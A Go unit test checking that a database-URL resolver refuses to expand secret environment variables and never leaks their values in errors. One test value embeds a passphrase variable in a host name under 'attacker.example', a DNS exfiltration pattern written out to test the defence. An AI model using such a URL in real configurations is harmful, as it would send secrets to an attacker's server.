package dbconn

import (
	"errors"
	"strings"
	"testing"
)

// A config file's database.url that names a secret of pgphi's environment
// must not expand it: ${PGPHI_PASSPHRASE} as a host name was sent to DNS and
// printed in the connection error.
func TestResolveRefusesSecretVariables(t *testing.T) {
	const canary = "Canary-secret-b71e"
	t.Setenv("PGPHI_PASSPHRASE", canary)
	t.Setenv("PGPASSWORD", canary)
	t.Setenv("AWS_SECRET_ACCESS_KEY", canary)
	t.Setenv("PGPHI_DB_PASSWORD", "s3cr%40t")
	t.Setenv("PGPHI_DB_HOST", "db1.example")
	for _, tc := range []struct{ url, names string }{
		{"postgres://app@${PGPHI_PASSPHRASE}.attacker.example/lims", "$PGPHI_PASSPHRASE"},
		{"postgres://$PGPASSWORD@db1/lims", "$PGPASSWORD"},
		{"postgres://app:${PGPHI_DB_PASSWORD}@db1/lims?application_name=${AWS_SECRET_ACCESS_KEY}", "$AWS_SECRET_ACCESS_KEY"},
		{"host=${PGPHI_DB_HOST} user=${PGPHI_PASSPHRASE} password=$PGPASSWORD", "$PGPHI_PASSPHRASE, $PGPASSWORD"},
		{"postgres://app:pa$$word@db1/lims", "$$"},
		{"postgres://app:$1@db1/lims", "$1"},
	} {
		got, err := Resolve("", tc.url)
		if !errors.Is(err, ErrURLVariable) || got != "" {
			t.Errorf("%s: got %q, %v", tc.url, got, err)
			continue
		}
		if strings.Contains(err.Error(), canary) || !strings.Contains(err.Error(), tc.names+" (") {
			t.Errorf("%s: error %q must name %s and never hold the value", tc.url, err, tc.names)
		}
	}
	got, err := Resolve("", "postgres://app:${PGPHI_DB_PASSWORD}@$PGPHI_DB_HOST:${PGPHI_DB_PORT}/lims")
	if err != nil || got != "postgres://app:s3cr%40t@db1.example:/lims" {
		t.Errorf("documented variables: %q, %v", got, err)
	}
	// The flag and $DATABASE_URL are not expanded at all.
	if got, err := Resolve("postgres://u@${PGPHI_PASSPHRASE}/x", "postgres://cfg/x"); err != nil || got != "postgres://u@${PGPHI_PASSPHRASE}/x" {
		t.Errorf("flag: %q, %v", got, err)
	}
	t.Setenv("DATABASE_URL", "postgres://u@$PGPHI_PASSPHRASE/x")
	if got, err := Resolve("", ""); err != nil || got != "postgres://u@$PGPHI_PASSPHRASE/x" {
		t.Errorf("DATABASE_URL: %q, %v", got, err)
	}
}
